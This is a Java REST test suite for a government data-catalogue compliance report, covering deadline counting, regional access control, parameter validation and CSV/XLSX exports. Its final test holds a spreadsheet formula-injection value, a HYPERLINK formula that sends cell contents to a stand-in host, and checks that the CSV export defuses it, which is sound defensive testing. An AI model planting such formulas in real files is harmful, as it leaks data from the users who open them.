package cn.onenet.catalog.rest;

import static cn.onenet.catalog.support.Fixtures.action;
import static cn.onenet.catalog.support.Fixtures.admin;
import static cn.onenet.catalog.support.Fixtures.as;
import static cn.onenet.catalog.support.Fixtures.auditor;
import static cn.onenet.catalog.support.Fixtures.create;
import static cn.onenet.catalog.support.Fixtures.editorOf;
import static cn.onenet.catalog.support.Fixtures.entryOf;
import static cn.onenet.catalog.support.Fixtures.headApproval;
import static cn.onenet.catalog.support.Fixtures.headOf;
import static cn.onenet.catalog.support.Fixtures.open;
import static cn.onenet.catalog.support.Fixtures.operator;
import static cn.onenet.catalog.support.Fixtures.reviewer;
import static cn.onenet.catalog.support.Fixtures.reviewerOf;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import jakarta.inject.Inject;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

import cn.onenet.catalog.service.CalendarService;
import cn.onenet.catalog.support.FakeExchange;
import cn.onenet.catalog.support.Fixtures;
import cn.onenet.common.identifiers.CreditCode;
import cn.onenet.testsupport.PostgresTestResource;
import cn.onenet.testsupport.TestOidcResource;
import cn.onenet.testsupport.TestTokens;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;

/**
 * 目录合规报告 (R5, R6): a month of one department's catalogue work, built step by step on the service's clock, counted
 * per provider department — reviews within 2 working days, updates within 10 (+5) — and who may read it.
 */
@QuarkusTest
@QuarkusTestResource(value = PostgresTestResource.class, restrictToAnnotatedClass = false)
@QuarkusTestResource(value = TestOidcResource.class, restrictToAnnotatedClass = false)
@QuarkusTestResource(value = FakeExchange.class, restrictToAnnotatedClass = false)
class ComplianceReportTest {

    private static final String R = "/api/catalog/v1/compliance-report";
    private static final String WENZHOU = "330300";
    /** 温州市公安局 and 温州市大数据发展管理局 (the city's 主管部门): a region no other test uses. */
    private static final String POLICE = code("11330300002511010");
    private static final String BUREAU = code("11330300002511020");
    private static final Map<String, Object> AGREED = Map.of("opinion", "同意");

    @Inject
    CalendarService calendar;

    private static String code(String first17) {
        return first17 + CreditCode.checkCharacter(first17);
    }

    /** The reviewer of Wenzhou's 主管部门. */
    private static String wenzhouReviewer() {
        return token("reviewer-wz", BUREAU, WENZHOU, true, "reviewer");
    }

    private static String token(String subject, String dept, String region, boolean authority, String... roles) {
        Map<String, Object> claims = new LinkedHashMap<>();
        claims.put("sub", subject);
        claims.put("aud", Fixtures.AUD);
        claims.put("roles", List.of(roles));
        claims.put("dept", dept);
        claims.put("region", region);
        claims.put("account_type", "civil_servant");
        claims.put("name", "温州审核员");
        if (authority) {
            claims.put("competent_authority", true);
        }
        return TestTokens.custom(claims);
    }

    /** The service's clock at 10:00 Beijing time on the day. */
    private void on(String day) {
        calendar.setClock(Clock.fixed(LocalDate.parse(day).atTime(LocalTime.of(10, 0))
                .atZone(CalendarService.CHINA).toInstant(), CalendarService.CHINA));
    }

    @AfterEach
    void systemClock() {
        calendar.setClock(null);
    }

    private static Map<String, Object> entry(String name) {
        Map<String, Object> m = entryOf(Fixtures.HANGZHOU_POLICE, name);
        m.put("providerDepartmentCode", POLICE);
        m.put("providerDepartmentName", "温州市公安局");
        FakeExchange.registerDepartment(POLICE, "温州市公安局");
        m.put("regionCode", WENZHOU);
        return m;
    }

    /** Both assessments dated today (on the service's clock) and the head's approval. */
    private static void prepare(String dept, long id, String today) {
        String editor = editorOf(dept);
        for (String kind : List.of("secrecy", "personal-information")) {
            as(editor).body(Map.of("reference", "WZ-" + kind, "conclusion", "风险可控", "assessedOn", today))
                    .post("/api/catalog/v1/entries/" + id + "/assessments/" + kind).then().statusCode(200);
        }
        headApproval(headOf(dept), id).statusCode(200);
    }

    private static void submit(long id, String today) {
        submit(POLICE, id, today);
    }

    private static void submit(String dept, long id, String today) {
        prepare(dept, id, today);
        action(editorOf(dept), id, "submit", Map.of()).statusCode(200);
    }

    private static long submitted(Map<String, Object> body, String today) {
        long id = create(editorOf((String) body.get("providerDepartmentCode")), body);
        submit((String) body.get("providerDepartmentCode"), id, today);
        return id;
    }

    private static void publish(long id) {
        action(wenzhouReviewer(), id, "approve", AGREED).statusCode(200);
        action(wenzhouReviewer(), id, "publish", Map.of("opinion", "发布")).statusCode(200);
    }

    private static JsonPath report(String token, String query) {
        return as(token).get(R + query).then().statusCode(200).extract().jsonPath();
    }

    @Test
    void aMonthOfReviewsAndUpdatesIsCountedAgainstTheWorkingDayPeriods() throws IOException {
        on("2026-03-02");
        long e1 = submitted(entry("合规报告-户籍"), "2026-03-02");
        long e2 = submitted(open(entry("合规报告-办事指南")), "2026-03-02");
        long e3 = submitted(entry("合规报告-暂住"), "2026-03-02");
        on("2026-03-03");
        publish(e1); // review in 1 working day
        on("2026-03-04");
        action(wenzhouReviewer(), e3, "return", Map.of("opinion", "补充数据项说明")).statusCode(200); // in 2
        action(editorOf(POLICE), e1, "change", Map.of("cause", "职责调整")).statusCode(200)
                .body("changeDue", equalTo("2026-03-18"));
        on("2026-03-05");
        publish(e2); // 3 working days: late
        headApproval(headOf(POLICE), e3).statusCode(200);
        action(editorOf(POLICE), e3, "submit", Map.of()).statusCode(200); // never decided: overdue
        on("2026-03-06");
        submit(e1, "2026-03-06"); // the update in 2 working days
        action(editorOf(POLICE), e2, "change", Map.of("cause", "法规修订")).statusCode(200);
        on("2026-03-09");
        publish(e1);
        on("2026-03-10");
        action(editorOf(POLICE), e1, "change", Map.of("cause", "机构改革")).statusCode(200);
        on("2026-03-11");
        action(wenzhouReviewer(), e1, "change-extension", Map.of("opinion", "同意延长")).statusCode(200)
                .body("changeDue", equalTo("2026-03-31")); // runs until the day of the report
        on("2026-03-23");
        submit(e2, "2026-03-23"); // 11 working days after its trigger: late
        on("2026-03-24");
        publish(e2);
        on("2026-03-25");
        action(editorOf(POLICE), e2, "change", Map.of("cause", "上级通知", "triggeredOn", "2026-03-02"))
                .statusCode(200).body("changeDue", equalTo("2026-03-16")); // overdue from the start
        on("2026-03-30");
        submitted(entry("合规报告-出入境"), "2026-03-30"); // its review runs
        on("2026-03-31");

        JsonPath r = report(wenzhouReviewer(), "?from=2026-03-01&to=2026-03-31");
        assertEquals(WENZHOU, r.getString("region"));
        assertEquals("2026-03-31", r.getString("asOf"));
        assertEquals(1, r.getList("departments").size());
        String d = "departments[0].";
        assertEquals(POLICE, r.getString(d + "departmentCode"));
        assertEquals("温州市公安局", r.getString(d + "departmentName"));
        assertEquals(WENZHOU, r.getString(d + "regionCode"));
        assertEquals(false, r.getBoolean("includeSubregions"));
        assertEquals(7, r.getInt(d + "submissions"));
        // reviews: e1 1 WD, e2 3 WD (late), e3 returned in 2 WD then overdue, e1's update 1 WD, e2's update 1 WD,
        // the last one running
        assertEquals(Map.of("total", 7, "onTime", 4, "late", 1, "overdue", 1, "pending", 1, "onTimeRate", 0.6667f,
                "averageWorkingDays", 1.6f), r.getMap(d + "reviews"));
        // updates: e1 in 2 WD, e2 in 11 WD (late), e1 extended and running, e2 triggered 2 March and overdue
        assertEquals(Map.of("total", 4, "onTime", 1, "late", 1, "overdue", 1, "pending", 1, "onTimeRate", 0.3333f,
                "averageWorkingDays", 6.5f), r.getMap(d + "updates"));
        assertEquals(1, r.getInt(d + "extensions"));
        assertEquals(1, r.getInt(d + "returns"));
        assertEquals(Map.of("published", 2, "unconditional", 1, "conditional", 1, "notShared", 0),
                r.getMap(d + "shares"));

        // the next month: nothing started in it, the published entries as they are now
        JsonPath april = report(wenzhouReviewer(), "?from=2026-04-01&to=2026-04-30");
        assertEquals(0, april.getInt(d + "submissions"));
        assertEquals(0, april.getInt(d + "reviews.total"));
        assertEquals(0, april.getInt(d + "updates.total"));
        assertNull(april.get(d + "reviews.onTimeRate"));
        assertEquals(2, april.getInt(d + "shares.published"));

        // the same counts in the CSV and .xlsx files
        byte[] csv = as(wenzhouReviewer()).queryParam("from", "2026-03-01").queryParam("to", "2026-03-31")
                .queryParam("format", "csv").get(R).then().statusCode(200)
                .header("Content-Disposition", equalTo("attachment; filename=\"catalog-compliance-report-330300-"
                        + "2026-03-01-2026-03-31.csv\"")).extract().asByteArray();
        String text = new String(csv, StandardCharsets.UTF_8);
        assertTrue(text.startsWith("\uFEFF"), "BOM");
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text.substring(1))).getRecords();
        assertEquals(List.of(ComplianceReportResource.COLUMNS, List.of(POLICE, "温州市公安局", WENZHOU, "7", "7", "4", "1",
                "1", "1", "0.6667", "1.6", "4", "1", "1", "1", "1", "0.3333", "6.5", "1", "1", "2", "1", "1", "0", "0")),
                records.stream().map(CSVRecord::toList).toList());
        byte[] xlsx = as(wenzhouReviewer()).queryParam("from", "2026-03-01").queryParam("to", "2026-03-31")
                .queryParam("format", "xlsx").get(R).then().statusCode(200)
                .contentType(SpreadsheetResource.XLSX).extract().asByteArray();
        List<List<String>> rows = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Row row : wb.getFirstSheet().read()) {
                List<String> cells = new ArrayList<>();
                for (int i = 0; i < row.getCellCount(); i++) {
                    cells.add(row.getCellText(i));
                }
                rows.add(cells);
            }
        }
        assertEquals(ComplianceReportResource.COLUMNS, rows.get(0));
        assertEquals(List.of(POLICE, "温州市公安局", WENZHOU, "7", "7", "4"), rows.get(1).subList(0, 6));
        assertEquals("6.5", rows.get(1).get(17));
    }

    @Test
    void theRegionsCompetentAuthorityAdminsAndAuditorsReadItOthersAreRefused() {
        // allowed: the region's 主管部门 (its own region by default), admins and auditors any region or all
        assertEquals(WENZHOU, report(wenzhouReviewer(), "").getString("region"));
        assertEquals(WENZHOU, report(wenzhouReviewer(), "?region=" + WENZHOU).getString("region"));
        assertEquals(WENZHOU, report(admin(), "?region=" + WENZHOU).getString("region"));
        as(auditor()).get(R).then().statusCode(200).body("region", nullValue());
        as(auditor()).get(R + "?region=330000").then().statusCode(200).body("region", equalTo("330000"))
                .body("departments.departmentCode", hasItem(Fixtures.POLICE));

        // refused: another region's 主管部门 (the city asking for the province, the province for a city)
        as(reviewerOf("reviewer-hz", Fixtures.HANGZHOU_BUREAU, Fixtures.HANGZHOU)).get(R + "?region=" + WENZHOU)
                .then().statusCode(403).contentType("application/problem+json").body("errors[0].field",
                        equalTo("region"));
        as(reviewer()).get(R + "?region=" + WENZHOU).then().statusCode(403).body("errors[0].field",
                equalTo("region"));
        // a reviewer of a department that is not the 主管部门, a reviewer token without region, other roles
        as(token("reviewer-wz-police", POLICE, WENZHOU, false, "reviewer")).get(R).then().statusCode(403)
                .body("errors[0].field", equalTo("competent_authority"));
        Map<String, Object> noRegion = new LinkedHashMap<>(Map.of("sub", "reviewer-x", "aud", Fixtures.AUD,
                "roles", List.of("reviewer"), "dept", BUREAU, "competent_authority", true));
        as(TestTokens.custom(noRegion)).get(R).then().statusCode(403);
        as(editorOf(POLICE)).get(R).then().statusCode(403);
        as(headOf(POLICE)).get(R).then().statusCode(403);
        as(operator()).get(R).then().statusCode(403);
        given().get(R).then().statusCode(401);
    }

    @Test
    void badParametersAreNamed() {
        as(auditor()).get(R + "?region=3303").then().statusCode(400).contentType("application/problem+json")
                .body("errors[0].field", equalTo("region"));
        as(auditor()).get(R + "?from=2026-13-01").then().statusCode(400).body("errors[0].field", equalTo("from"));
        as(auditor()).get(R + "?to=tomorrow").then().statusCode(400).body("errors[0].field", equalTo("to"));
        as(auditor()).get(R + "?from=2026-05-01&to=2026-04-01").then().statusCode(400)
                .body("errors[0].field", equalTo("from"));
        as(auditor()).get(R + "?format=pdf").then().statusCode(400).body("errors[0].field", equalTo("format"));
        // the switch is true or false, for every caller; refused before anything is read
        for (String token : List.of(auditor(), admin(), wenzhouReviewer())) {
            as(token).get(R + "?includeSubregions=yes").then().statusCode(400)
                    .contentType("application/problem+json").body("field", equalTo("includeSubregions"))
                    .body("errors[0].field", equalTo("includeSubregions"));
        }
        as(auditor()).get(R + "?includeSubregions=1&format=csv").then().statusCode(400)
                .body("errors[0].field", equalTo("includeSubregions"));
    }

    /**
     * The console tests {@code report.includeSubregions} as a JavaScript truth value, so the report carries a JSON
     * boolean: a string "false" would read as true.
     */
    @Test
    void includeSubregionsIsAJsonBooleanInTheReport() throws IOException {
        Map<String, Boolean> queries = Map.of("", false, "?includeSubregions=false", false,
                "?includeSubregions=true", true, "?includeSubregions=%20true%20", true);
        for (Map.Entry<String, Boolean> q : queries.entrySet()) {
            String body = as(auditor()).urlEncodingEnabled(false).get(R + q.getKey()).then().statusCode(200)
                    .contentType("application/json").extract().asString();
            com.fasterxml.jackson.databind.JsonNode flag = new com.fasterxml.jackson.databind.ObjectMapper()
                    .readTree(body).get("includeSubregions");
            assertTrue(flag != null && flag.isBoolean(), q.getKey() + ": " + body);
            assertEquals(q.getValue(), flag.booleanValue(), q.getKey());
        }
    }

    /** 台州市 (331000) and its county 椒江区 (331002): regions no other test uses. */
    private static final String TAIZHOU = "331000";
    private static final String JIAOJIANG = "331002";
    private static final String TAIZHOU_POLICE = code("11331000002511010");
    private static final String TAIZHOU_BUREAU = code("11331000002511020");
    private static final String JIAOJIANG_CIVIL = code("11331002002511030");
    private static final String JIAOJIANG_BUREAU = code("11331002002511020");

    private static Map<String, Object> entry(String dept, String deptName, String name) {
        Map<String, Object> m = entryOf(Fixtures.HANGZHOU_POLICE, name);
        m.put("providerDepartmentCode", dept);
        m.put("providerDepartmentName", deptName);
        m.put("regionCode", Fixtures.regionOf(dept));
        FakeExchange.registerDepartment(dept, deptName);
        return m;
    }

    /** The row of a department in a report, null when it has none. */
    private static Map<String, Object> row(JsonPath report, String code) {
        return report.getMap("departments.find { it.departmentCode == '" + code + "' }");
    }

    @Test
    void aCitysAuthoritySeesItsCountiesWithTheSwitchACountysNeverItsCity() throws IOException {
        String city = token("reviewer-tz", TAIZHOU_BUREAU, TAIZHOU, true, "reviewer");
        String county = token("reviewer-jj", JIAOJIANG_BUREAU, JIAOJIANG, true, "reviewer");
        on("2026-05-06");
        submitted(entry(TAIZHOU_POLICE, "台州市公安局", "合规报告-台州暂住"), "2026-05-06");
        long countyEntry = submitted(entry(JIAOJIANG_CIVIL, "台州市椒江区民政局", "合规报告-椒江低保"), "2026-05-06");
        on("2026-05-07");
        // the county's entry is reviewed by the county's own 主管部门 (R5), not by the city's
        action(city, countyEntry, "approve", AGREED).statusCode(403);
        action(county, countyEntry, "approve", AGREED).statusCode(200);
        action(county, countyEntry, "publish", Map.of("opinion", "发布")).statusCode(200);
        String may = "?from=2026-05-01&to=2026-05-31";

        // the city's 主管部门: its own region by default, the county's department only with the switch
        for (String query : List.of(may, may + "&includeSubregions=false", may + "&region=" + TAIZHOU)) {
            JsonPath own = report(city, query);
            assertEquals(TAIZHOU, own.getString("region"));
            assertEquals(false, own.getBoolean("includeSubregions"));
            assertEquals(TAIZHOU, row(own, TAIZHOU_POLICE).get("regionCode"));
            assertNull(row(own, JIAOJIANG_CIVIL), query);
        }
        JsonPath withCounties = report(city, may + "&includeSubregions=true");
        assertEquals(TAIZHOU, withCounties.getString("region"));
        assertEquals(true, withCounties.getBoolean("includeSubregions"));
        assertEquals(2, withCounties.getList("departments").size());
        assertEquals(TAIZHOU, row(withCounties, TAIZHOU_POLICE).get("regionCode"));
        assertEquals(1, row(withCounties, TAIZHOU_POLICE).get("submissions"));
        Map<String, Object> jiaojiang = row(withCounties, JIAOJIANG_CIVIL);
        assertEquals(JIAOJIANG, jiaojiang.get("regionCode"));
        assertEquals("台州市椒江区民政局", jiaojiang.get("departmentName"));
        assertEquals(1, jiaojiang.get("submissions"));
        assertEquals(Map.of("published", 1, "unconditional", 0, "conditional", 1, "notShared", 0),
                jiaojiang.get("shares"));
        assertEquals(1, withCounties.getInt("departments.find { it.departmentCode == '" + JIAOJIANG_CIVIL
                + "' }.reviews.onTime"));
        as(city).get(R + may + "&region=" + TAIZHOU + "&includeSubregions=true").then().statusCode(200)
                .body("departments.departmentCode", equalTo(List.of(TAIZHOU_POLICE, JIAOJIANG_CIVIL)));

        // the county's 主管部门: its own department with or without the switch, never the city's
        for (String query : List.of(may, may + "&includeSubregions=true")) {
            JsonPath own = report(county, query);
            assertEquals(JIAOJIANG, own.getString("region"));
            assertEquals(List.of(JIAOJIANG_CIVIL), own.getList("departments.departmentCode"), query);
        }
        for (String query : List.of("&region=" + TAIZHOU, "&region=" + TAIZHOU + "&includeSubregions=true",
                "&region=330000&includeSubregions=true")) {
            as(county).get(R + may + query).then().statusCode(403).contentType("application/problem+json")
                    .body("errors[0].field", equalTo("region"));
        }
        // the switch opens no door: another department's reviewer, an editor
        as(token("reviewer-tz-police", TAIZHOU_POLICE, TAIZHOU, false, "reviewer"))
                .get(R + may + "&includeSubregions=true").then().statusCode(403)
                .body("errors[0].field", equalTo("competent_authority"));
        as(editorOf(JIAOJIANG_CIVIL)).get(R + may + "&includeSubregions=true").then().statusCode(403);

        // admins and auditors: a region with or without the regions below, or every region
        JsonPath adminOwn = report(admin(), may + "&region=" + TAIZHOU);
        assertEquals(List.of(TAIZHOU_POLICE), adminOwn.getList("departments.departmentCode"));
        JsonPath adminAll = report(admin(), may + "&region=" + TAIZHOU + "&includeSubregions=true");
        assertEquals(List.of(TAIZHOU_POLICE, JIAOJIANG_CIVIL), adminAll.getList("departments.departmentCode"));
        // the province: without the switch neither, with it both
        JsonPath province = report(auditor(), may + "&region=330000");
        assertNull(row(province, TAIZHOU_POLICE));
        assertNull(row(province, JIAOJIANG_CIVIL));
        JsonPath provinceAll = report(auditor(), may + "&region=330000&includeSubregions=true");
        assertEquals(TAIZHOU, row(provinceAll, TAIZHOU_POLICE).get("regionCode"));
        assertEquals(JIAOJIANG, row(provinceAll, JIAOJIANG_CIVIL).get("regionCode"));
        JsonPath everywhere = report(auditor(), may + "&includeSubregions=true");
        assertNull(everywhere.get("region"));
        assertEquals(JIAOJIANG, row(everywhere, JIAOJIANG_CIVIL).get("regionCode"));
        // another province's region takes in nothing of Zhejiang's
        assertEquals(List.of(), report(auditor(), may + "&region=320000&includeSubregions=true")
                .getList("departments"));

        // the files name each row's region, and say the regions below are in them
        byte[] csv = as(city).queryParam("from", "2026-05-01").queryParam("to", "2026-05-31")
                .queryParam("includeSubregions", "true").queryParam("format", "csv").get(R).then().statusCode(200)
                .header("Content-Disposition", equalTo("attachment; filename=\"catalog-compliance-report-331000-"
                        + "with-subregions-2026-05-01-2026-05-31.csv\"")).extract().asByteArray();
        String text = new String(csv, StandardCharsets.UTF_8);
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text.substring(1))).getRecords();
        assertEquals("行政区划代码 regionCode", records.get(0).get(2));
        assertEquals(List.of(List.of(TAIZHOU_POLICE, "台州市公安局", TAIZHOU, "1"),
                List.of(JIAOJIANG_CIVIL, "台州市椒江区民政局", JIAOJIANG, "1")),
                records.subList(1, 3).stream().map(r -> r.toList().subList(0, 4)).toList());
        byte[] xlsx = as(city).queryParam("from", "2026-05-01").queryParam("to", "2026-05-31")
                .queryParam("includeSubregions", "true").queryParam("format", "xlsx").get(R).then().statusCode(200)
                .header("Content-Disposition", equalTo("attachment; filename=\"catalog-compliance-report-331000-"
                        + "with-subregions-2026-05-01-2026-05-31.xlsx\"")).extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            List<Row> sheet = wb.getFirstSheet().read();
            assertEquals("行政区划代码 regionCode", sheet.get(0).getCellText(2));
            assertEquals(JIAOJIANG_CIVIL, sheet.get(2).getCellText(0));
            // the region is text, kept as the code reads
            assertEquals(JIAOJIANG, sheet.get(2).getCellAsString(2).orElse(null));
            assertEquals("1", sheet.get(2).getCellText(3));
        }
        // without the switch: the city's row only, and the file name says nothing of the regions below
        as(city).queryParam("from", "2026-05-01").queryParam("to", "2026-05-31").queryParam("format", "csv").get(R)
                .then().statusCode(200).header("Content-Disposition", equalTo("attachment; filename=\""
                        + "catalog-compliance-report-331000-2026-05-01-2026-05-31.csv\""));
    }

    /**
     * 撤回报送: a submission taken back before the 主管部门 decided is no submission, no review, and meets no update
     * duty. 湖州 (330500): a region no other test uses.
     */
    @Test
    void aRecalledSubmissionMeetsNoUpdateDutyAndIsNoSubmission() {
        String police = code("11330500002511010");
        String huzhouReviewer = token("reviewer-hu", code("11330500002511020"), "330500", true, "reviewer");
        Map<String, Object> recall = Map.of("opinion", "报送有误，撤回修改");
        on("2026-06-01");
        long changed = submitted(entry(police, "湖州市公安局", "合规报告-湖州户籍"), "2026-06-01");
        long draft = submitted(entry(police, "湖州市公安局", "合规报告-湖州暂住"), "2026-06-01");
        action(editorOf(police), draft, "recall", recall).statusCode(200).body("state", equalTo("DRAFT"));
        on("2026-06-02");
        action(huzhouReviewer, changed, "approve", AGREED).statusCode(200);
        action(huzhouReviewer, changed, "publish", Map.of("opinion", "发布")).statusCode(200); // review in 1 WD
        on("2026-06-03");
        String due = action(editorOf(police), changed, "change", Map.of("cause", "职责调整")).statusCode(200)
                .extract().path("changeDue");
        on("2026-06-04");
        submit(police, changed, "2026-06-04");
        on("2026-06-05");
        action(editorOf(police), changed, "recall", recall).statusCode(200).body("state", equalTo("CHANGE_PENDING"));
        String after = LocalDate.parse(due).plusDays(1).toString();
        on(after);

        String june = "?region=330500&from=2026-06-01&to=2026-06-30";
        Map<String, Object> row = row(report(huzhouReviewer, june), police);
        // the two recalled submissions count for nothing; the change was not submitted by its due day: overdue
        assertEquals(1, row.get("submissions"));
        assertEquals(Map.of("total", 1, "onTime", 1, "late", 0, "overdue", 0, "pending", 0, "onTimeRate", 1.0f,
                "averageWorkingDays", 1.0f), row.get("reviews"));
        Map<?, ?> updates = (Map<?, ?>) row.get("updates");
        assertEquals(List.of(1, 0, 0, 1, 0), counts(updates));
        assertNull(updates.get("averageWorkingDays")); // none done

        // submitted again after the due day: the duty is done, late, by that submission
        action(editorOf(police), changed, "submit", Map.of()).statusCode(200);
        row = row(report(huzhouReviewer, june), police);
        assertEquals(2, row.get("submissions"));
        assertEquals(List.of(1, 0, 1, 0, 0), counts((Map<?, ?>) row.get("updates")));
        assertEquals(2, ((Map<?, ?>) row.get("reviews")).get("total")); // the first one, and this one running
    }

    /** total, onTime, late, overdue, pending of one duty in a report row. */
    private static List<Object> counts(Map<?, ?> duty) {
        return List.of(duty.get("total"), duty.get("onTime"), duty.get("late"), duty.get("overdue"),
                duty.get("pending"));
    }

    @Test
    void aDepartmentNameThatWouldRunAsAFormulaIsTextInTheCsvFile() throws IOException {
        // 衢州 (330800): a region no other test uses; the name is the register's, which the catalogue does not vet
        String dept = code("11330800002511010");
        String name = "=HYPERLINK(\"http://x.example/?\"&A1,\"详情\")";
        Map<String, Object> body = entryOf(dept, "衢州公式名称目录");
        body.put("providerDepartmentName", name);
        FakeExchange.registerDepartment(dept, name);
        submitted(body, calendar.today().toString());

        // JSON and .xlsx (an inline string, never a formula) as the register gives it
        assertEquals(List.of(name), report(auditor(), "?region=330800").getList("departments.departmentName"));
        byte[] xlsx = as(auditor()).queryParam("region", "330800").queryParam("format", "xlsx").get(R).then()
                .statusCode(200).extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            assertEquals(name, wb.getFirstSheet().read().get(1).getCellAsString(1).orElse(null));
        }
        // CSV: a leading ' so that a spreadsheet program shows the text instead of running it (OWASP)
        byte[] csv = as(auditor()).queryParam("region", "330800").queryParam("format", "csv").get(R).then()
                .statusCode(200).extract().asByteArray();
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(new String(csv, StandardCharsets.UTF_8)
                .substring(1))).getRecords();
        assertEquals(List.of(dept, "'" + name, "330800", "1"), records.get(1).toList().subList(0, 4));
    }
}
